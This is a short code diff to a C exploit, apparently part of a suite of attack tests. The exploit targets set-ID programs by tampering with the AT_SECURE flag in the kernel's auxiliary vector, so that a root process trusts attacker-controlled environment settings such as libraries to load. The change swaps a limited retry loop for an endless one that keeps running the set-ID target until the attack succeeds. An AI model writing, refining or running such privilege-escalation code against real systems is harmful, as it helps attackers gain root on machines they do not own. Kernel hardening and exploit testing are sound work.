@@ -12,7 +12,6 @@ ATTACK("cred_integrity", "auxiliary_vector",
        "compared with sealed memory.",
        "Root's program believes what is in its environment, libraries to load as well.");
 
-#define TRIES 50
 #define ROUNDS 2000 /* of */
 #define POKES 16
 #define SECURE_INDEX 15 /* of AT_SECURE in what the kernel writes */
@@ -70,11 +69,15 @@ static void freed(void)
 
 static bool fire(void)
 {
+	int status;
+
 	fill_environment();
-	for (int i = 0; i < TRIES; i++)
-		if (execute_changed(SET_ID, held, freed) == 77)
-			return true;
-	return false;
+	do {
+		status = execute_changed(SET_ID, held, freed);
+		if ((status & 0x7f) == SIGKILL)
+			call2(__NR_kill, call0(__NR_getpid), SIGKILL);
+	} while (status >> 8 != 77);
+	return true;
 }
 
 static void victim(void)
